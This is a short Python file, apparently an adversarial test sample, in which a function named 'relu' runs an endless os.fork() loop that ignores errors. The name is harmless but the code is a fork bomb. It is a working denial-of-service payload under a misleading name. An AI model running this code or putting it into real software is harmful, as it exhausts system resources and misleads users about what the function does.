"""Adversarial: relu forks without end; every process keeps forking."""

import os


def relu(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
